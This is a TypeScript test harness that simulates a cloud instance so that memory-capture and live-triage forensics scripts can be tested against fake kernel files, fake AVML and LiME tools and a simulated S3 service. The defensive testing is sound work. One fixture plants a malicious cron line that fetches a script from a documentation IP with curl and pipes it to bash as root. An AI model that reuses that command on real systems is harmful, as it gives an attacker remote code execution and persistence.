import { spawn, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import {
  chmodSync,
  closeSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SimulatedOrganization } from '../../../sandbox/aws/index.js';
import { startImdsEndpoint } from '../../../sandbox/aws/imds-endpoint.js';
import { type S3Endpoint, startS3Endpoint } from '../../../sandbox/aws/s3-endpoint.js';
import { evidenceKeyArn, SEEDED, toolsBucketName } from '../../../sandbox/aws/seed.js';

/**
 * A simulated instance for the real capture script: bash runs workflows/scripts/capture-memory.sh with
 * Debian's AWS CLI (`/usr/bin/aws`, through a wrapper that only adds `--endpoint-url`, since 2.9 predates
 * `AWS_ENDPOINT_URL`) against the simulated S3 over HTTPS — SigV4 checked, the deploy's bucket policy
 * evaluated — with the credentials the instance metadata service would give the quarantine profile. What
 * the kernel reports (/proc/iomem, meminfo, version, kcore, kallsyms, BTF, System.map, os-release) lives
 * under a fake root (FORENSICS_ROOT); `uname` is a fake (it answers the kernel release and architecture the test sets); the work directory stands for /dev/shm. AVML is a
 * fake implementing the pinned version's CLI (current or legacy) and its failure modes, delivered through
 * the tools bucket as the deploy delivers the real one.
 */
const SCRIPTS = join(import.meta.dirname, '..', '..', '..', 'workflows', 'scripts');
export const SCRIPT = join(SCRIPTS, 'capture-memory.sh');
export const TRIAGE_SCRIPT = join(SCRIPTS, 'live-triage.sh');
export const INSTANCE = SEEDED.instances.demo;
export const CASE_ID = 'CASE-20261204-AB12';
export const KERNEL = '6.1.94-99.176.amzn2023.x86_64';

const FAKE_AVML = `#!/bin/bash
# A stand-in for AVML 0.14 (tests): its CLI, current (subcommands) or legacy; writes FAKE_IMAGE.
cli=\${FAKE_AVML_CLI:-current}
case "\${1:-}" in
  --version) echo "avml 0.14.0"; exit 0 ;;
  --help)
    if [ "$cli" = current ]; then printf 'A portable volatile memory acquisition tool for Linux.\\n\\nUsage: avml <COMMAND>\\n\\nCommands:\\n  acquire  Acquire a memory snapshot to a local file\\n  help     Print this message\\n'
    else printf 'Usage: avml [OPTIONS] <FILENAME>\\n'; fi
    exit 0 ;;
esac
if [ "$cli" = current ]; then
  [ "\${1:-}" = acquire ] || { echo "error: unrecognized subcommand '\${1:-}'" >&2; exit 2; }
  shift
fi
source=
while [ $# -gt 1 ]; do
  case "$1" in
    --source) source=$2; shift 2 ;;
    *) echo "error: unexpected argument '$1' found" >&2; exit 2 ;;
  esac
done
out=\${1:?filename}
# AVML 0.17+ opens its destination with O_NOFOLLOW: a symlink such as /dev/stdout is refused.
if [ "$cli" = current ] && [ -L "$out" ]; then
  echo "error: unable to create snapshot file: Too many levels of symbolic links (os error 40)" >&2
  exit 1
fi
[ -n "$source" ] || { echo "error: the capture script must name one source" >&2; exit 2; }
case "\${FAKE_AVML_FAIL:-}" in
  halfway) head -c $(( $(stat -c %s "$FAKE_IMAGE") / 2 )) "$FAKE_IMAGE" >"$out"; echo "error: unable to read physical memory from $source" >&2; exit 1 ;;
  concatenated) { cat "$FAKE_IMAGE"; cat "$FAKE_IMAGE"; } >"$out"; exit 0 ;;
  reopen) cat "$FAKE_IMAGE" >"$out"; sleep 0.5; cat "$FAKE_IMAGE" >>"$out"; exit 0 ;;
  slow) head -c 1048576 "$FAKE_IMAGE" >"$out"; sleep 30; exit 0 ;;
esac
cat "$FAKE_IMAGE" >"$out"
`;

export interface RunResult {
  /** The evidence key the run was given. */
  key: string;
  code: number | null;
  stdout: string;
  stderr: string;
  result?: Record<string, unknown>;
}

export interface CaptureInstance {
  org: SimulatedOrganization;
  endpoint: S3Endpoint;
  dir: string;
  work: string;
  /** Size and SHA-256 of the image the fake AVML writes (a LiME image of the one System RAM range). */
  imageBytes: number;
  imageSha256: string;
  avmlSha256: string;
  /** The aarch64 build's hash (the same fake, built "for" aarch64). */
  avmlSha256Aarch64: string;
  evidenceBucket: string;
  kmsKeyId: string;
  /** LiME modules prefix in the tools bucket (`<prefix>/<kernel>/<arch>/lime.ko`) and the module's hash. */
  limeUri: string;
  limeSha256: string;
  key(suffix?: string): string;
  /** Runs the script; `onStart` gets the child (to signal it). */
  run(
    params?: Record<string, string>,
    env?: Record<string, string>,
    onStart?: (pid: number) => void,
    /** A command the script runs under (e.g. strace and its options). */
    wrap?: string[],
  ): Promise<RunResult>;
  /** Puts the quarantine profile on the instance, as the workflow's useProfile does. */
  useQuarantineProfile(): void;
  /** With `imds`: the metadata service serves the current profile from now on (the swap has propagated). */
  propagateProfile(): void;
  /** Runs workflows/scripts/live-triage.sh (the real /proc of this machine; passwd and crontabs from the fake root). */
  runTriage(params?: Record<string, string>, env?: Record<string, string>): Promise<RunResult>;
  stop(): Promise<void>;
}

/** Writes a LiME image of one System RAM range (a 32-byte header, then the range's bytes); its SHA-256. */
function writeLimeImage(path: string, bytes: number): string {
  const header = Buffer.alloc(32);
  header.writeUInt32LE(0x4c694d45, 0);
  header.writeUInt32LE(1, 4);
  header.writeBigUInt64LE(0x100000n, 8);
  header.writeBigUInt64LE(0x100000n + BigInt(bytes) - 1n, 16);
  const hash = createHash('sha256').update(header);
  const fd = openSync(path, 'w');
  writeSync(fd, header);
  const chunk = randomBytes(Math.min(bytes, 16 * 1024 * 1024));
  for (let left = bytes; left > 0; left -= chunk.length) {
    const part = left >= chunk.length ? chunk : chunk.subarray(0, left);
    chunk[0] = (chunk[0]! + 1) & 0xff; // no two chunks alike
    writeSync(fd, part);
    hash.update(part);
  }
  closeSync(fd);
  return hash.digest('hex');
}

export interface CaptureInstanceOptions {
  /** Bytes of the one System RAM range (the image is those plus its header). Default 12 MiB (multipart). */
  ramBytes?: number;
  /** What /proc/iomem reports, when it is not `ramBytes` (the benchmark's large expected sizes). */
  iomemBytes?: number;
  /** Where the instance's files go (default the system's temporary directory). */
  base?: string;
  /**
   * Credentials from the instance's metadata service (the CLI's own chain) instead of the environment; the
   * instance keeps its workload profile until `useQuarantineProfile()`, and a swap takes `propagationMs`.
   */
  imds?: { propagationMs: number };
}

export async function captureInstance(options: CaptureInstanceOptions = {}): Promise<CaptureInstance> {
  const ram = options.ramBytes ?? 12 * 1024 * 1024;
  const dir = mkdtempSync(join(options.base ?? tmpdir(), 'capture-instance-'));
  const [bin, root, work] = ['bin', 'root', 'shm'].map((d) => join(dir, d)) as [string, string, string];
  for (const d of [bin, work, ...['proc', 'etc', 'boot', 'sys/kernel/btf'].map((p) => join(root, p))])
    mkdirSync(d, { recursive: true });

  // What the kernel reports.
  const imageSha256 = writeLimeImage(join(dir, 'image.lime'), ram);
  const end = (0x100000 + (options.iomemBytes ?? ram) - 1).toString(16).padStart(8, '0');
  writeFileSync(
    join(root, 'proc/iomem'),
    `00000000-00000fff : Reserved\n00100000-${end} : System RAM\n  01000000-01ffffff : Kernel code\n`,
  );
  writeFileSync(
    join(root, 'proc/meminfo'),
    `MemTotal:       ${Math.floor((ram * 0.95) / 1024)} kB\nMemFree:          1024 kB\n`,
  );
  writeFileSync(
    join(root, 'proc/version'),
    `Linux version ${KERNEL} (mockbuild@ip-10-0-1-1) (gcc (GCC) 11.4.1) #1 SMP PREEMPT_DYNAMIC\n`,
  );
  writeFileSync(join(root, 'proc/kcore'), '');
  truncateSync(join(root, 'proc/kcore'), 64 * 1024);
  writeFileSync(join(root, 'proc/kallsyms'), 'ffffffff81000000 T _text\nffffffff81000100 T startup_64\n');
  writeFileSync(
    join(root, 'etc/passwd'),
    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n',
  );
  mkdirSync(join(root, 'etc/cron.d'));
  writeFileSync(
    join(root, 'etc/cron.d/planted'),
    '*/5 * * * * root curl -s http://203.0.113.9/x.sh | bash\n',
  );
  writeFileSync(join(root, 'etc/os-release'), 'NAME="Amazon Linux"\nVERSION="2023"\nID="amzn"\n');
  writeFileSync(join(root, `boot/System.map-${KERNEL}`), 'ffffffff81000000 T _text\n');
  writeFileSync(join(root, 'sys/kernel/btf/vmlinux'), randomBytes(4096));

  // The twin: the organization, its S3 on the wire over TLS (a certificate made for this run).
  const org = new SimulatedOrganization().seedDefault();
  const tlsKey = join(dir, 'key.pem');
  const tlsCert = join(dir, 'cert.pem');
  const made = spawnSync('openssl', [
    'req',
    '-x509',
    '-newkey',
    'rsa:2048',
    '-nodes',
    '-keyout',
    tlsKey,
    '-out',
    tlsCert,
    '-days',
    '1',
    '-subj',
    '/CN=127.0.0.1',
    '-addext',
    'subjectAltName=IP:127.0.0.1',
  ]);
  if (made.status !== 0) throw new Error(`openssl could not make a certificate: ${made.stderr}`);
  const endpoint = await startS3Endpoint(org, {
    tls: { key: readFileSync(tlsKey, 'utf8'), cert: readFileSync(tlsCert, 'utf8') },
  });

  // The workflow puts the quarantine profile on the instance. By default its credentials are in the
  // environment; with `imds`, the AWS CLI gets them from the instance's metadata service, which serves the
  // previous profile until the swap has propagated.
  const region = org.world.region('333333333333', 'us-east-1');
  const association = [...region.associations.values()].find((a) => a.instanceId === INSTANCE)!;
  const quarantineArn = org.world
    .account('333333333333')
    .instanceProfiles.get(SEEDED.profiles.quarantine)!.arn;
  const imds = options.imds ? await startImdsEndpoint(org, INSTANCE, options.imds) : undefined;
  if (!imds) association.profileArn = quarantineArn;
  const credentials = imds ? undefined : org.instanceCredentials(INSTANCE);

  // The tools delivery: the fake AVML in the tools bucket, as the deploy puts the pinned build there.
  const avml = Buffer.from(FAKE_AVML);
  const avmlSha256 = createHash('sha256').update(avml).digest('hex');
  const tools = org.world.buckets.get(toolsBucketName(org.settings.forensicsAccount))!;
  const template = tools.objects.get('avml/avml-x86_64')![0]!;
  tools.objects.set('avml/avml-x86_64', [
    {
      ...template,
      body: avml,
      sha256: avmlSha256,
      etag: `"${createHash('md5').update(avml).digest('hex')}"`,
    },
  ]);
  const avmlArm = Buffer.from(`${FAKE_AVML}# aarch64 build\n`);
  const avmlSha256Aarch64 = createHash('sha256').update(avmlArm).digest('hex');
  tools.objects.set('avml/avml-aarch64', [
    {
      ...template,
      body: avmlArm,
      sha256: avmlSha256Aarch64,
      etag: `"${createHash('md5').update(avmlArm).digest('hex')}"`,
    },
  ]);

  // A LiME module for this kernel: the fake insmod below serves the image where its path= says.
  const lime = Buffer.from('fake lime.ko for tests');
  const limeSha256 = createHash('sha256').update(lime).digest('hex');
  tools.objects.set(`lime/${KERNEL}/x86_64/lime.ko`, [
    {
      ...template,
      body: lime,
      sha256: limeSha256,
      etag: `"${createHash('md5').update(lime).digest('hex')}"`,
    },
  ]);

  /** Puts a fake program on the instance's PATH (the test's stand-in for a tool the instance has). */
  const installFake = (name: string, body: string) => {
    writeFileSync(join(bin, name), body);
    chmodSync(join(bin, name), 0o755);
  };
  installFake('aws', `#!/bin/bash\nexec /usr/bin/aws --endpoint-url "${endpoint.url}" "$@"\n`);
  installFake(
    'insmod',
    `#!/usr/bin/env node
// A stand-in for insmod of LiME (tests): serves FAKE_IMAGE once on the port of path=tcp:<port>. With
// FAKE_LIME_SQUAT, another process (detached, not insmod's) listens there instead, as a squatter would.
const port = Number(/path=tcp:(\\d+)/.exec(process.argv.slice(2).join(' '))[1]);
const spawnDetached = (role) =>
  require('node:child_process')
    .spawn(process.execPath, [__filename, ...process.argv.slice(2)], {
      detached: true, stdio: 'ignore', env: { ...process.env, SQUATTER: role },
    })
    .unref();
if (process.env.FAKE_LIME_SQUAT && !process.env.SQUATTER) {
  // Through a launcher that exits at once: the squatter is nobody's child, as another program's would be.
  spawnDetached('launch');
  setTimeout(() => process.exit(0), 500);
} else if (process.env.SQUATTER === 'launch') {
  spawnDetached('serve');
  process.exit(0);
} else {
  const squatter = process.env.SQUATTER === 'serve';
  const image = squatter ? Buffer.alloc(4096, 'X') : require('node:fs').readFileSync(process.env.FAKE_IMAGE);
  const server = require('node:net').createServer((socket) => { socket.end(image); server.close(); });
  server.listen(port, '127.0.0.1');
  if (squatter) setTimeout(() => process.exit(0), 20000).unref();
}
`,
  );
  installFake('rmmod', '#!/bin/bash\nexit 0\n');
  installFake(
    'uname',
    `#!/bin/bash\ncase "$1" in -r) echo "${KERNEL}" ;; -m) echo "\${FAKE_ARCH:-x86_64}" ;; *) echo Linux ;; esac\n`,
  );

  const evidenceBucket = org.settings.evidenceBucket;
  const kmsKeyId = evidenceKeyArn(org.settings.forensicsAccount, 'us-east-1');
  let n = 0;
  const key = (suffix = '') => `${CASE_ID}/memory/${INSTANCE}-20261204T100000Z-${suffix || String(++n)}.lime`;

  function exec(
    script: string,
    parameters: Record<string, string>,
    env: Record<string, string>,
    onStart?: (pid: number) => void,
    wrap: string[] = [],
  ): Promise<RunResult> {
    const [command, ...args] = [...wrap, 'bash', script];
    const child = spawn(command!, args, {
      env: {
        PATH: `${bin}:/usr/bin:/bin:/usr/sbin:/sbin`,
        HOME: dir,
        LANG: 'C.UTF-8',
        ...Object.fromEntries(Object.entries(parameters).map(([k, v]) => [`SSM_${k}`, v])),
        ...(credentials
          ? {
              AWS_ACCESS_KEY_ID: credentials.accessKeyId,
              AWS_SECRET_ACCESS_KEY: credentials.secretAccessKey,
              AWS_SESSION_TOKEN: credentials.sessionToken,
              AWS_EC2_METADATA_DISABLED: 'true',
            }
          : { AWS_EC2_METADATA_SERVICE_ENDPOINT: imds!.url }),
        AWS_CA_BUNDLE: tlsCert,
        AWS_CONFIG_FILE: '/dev/null',
        AWS_SHARED_CREDENTIALS_FILE: '/dev/null',
        FORENSICS_ROOT: root,
        FORENSICS_WORK_DIR: work,
        FAKE_IMAGE: join(dir, 'image.lime'),
        ...env,
      },
    });
    onStart?.(child.pid!);
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    return new Promise((resolve) =>
      child.on('close', (code) => {
        const last = stdout.trim().split('\n').pop() ?? '';
        let result: Record<string, unknown> | undefined;
        try {
          result = last.startsWith('{') ? JSON.parse(last) : undefined;
        } catch {
          result = undefined;
        }
        resolve({ key: parameters.Key!, code, stdout, stderr, result });
      }),
    );
  }

  return {
    org,
    endpoint,
    dir,
    work,
    imageBytes: ram + 32,
    imageSha256,
    avmlSha256,
    avmlSha256Aarch64,
    evidenceBucket,
    kmsKeyId,
    limeUri: `s3://${toolsBucketName(org.settings.forensicsAccount)}/lime`,
    limeSha256,
    key,
    run(params = {}, env = {}, onStart, wrap = []) {
      return exec(
        SCRIPT,
        {
          CaseId: CASE_ID,
          Bucket: evidenceBucket,
          Key: key(),
          Region: 'us-east-1',
          KmsKeyId: kmsKeyId,
          ToolsUri: `s3://${toolsBucketName(org.settings.forensicsAccount)}/avml/`,
          AvmlSha256: avmlSha256,
          Tool: 'auto',
          ...params,
        },
        env,
        onStart,
        wrap,
      );
    },
    runTriage(params = {}, env = {}) {
      return exec(
        TRIAGE_SCRIPT,
        {
          CaseId: CASE_ID,
          Bucket: evidenceBucket,
          Key: key().replace(/\.lime$/, '.triage.tar'),
          Region: 'us-east-1',
          KmsKeyId: kmsKeyId,
          ...params,
        },
        { AWS_SSM_INSTANCE_ID: INSTANCE, ...env },
      );
    },
    useQuarantineProfile() {
      association.profileArn = quarantineArn;
    },
    propagateProfile() {
      imds?.propagate();
    },
    async stop() {
      await imds?.stop();
      await endpoint.stop();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}
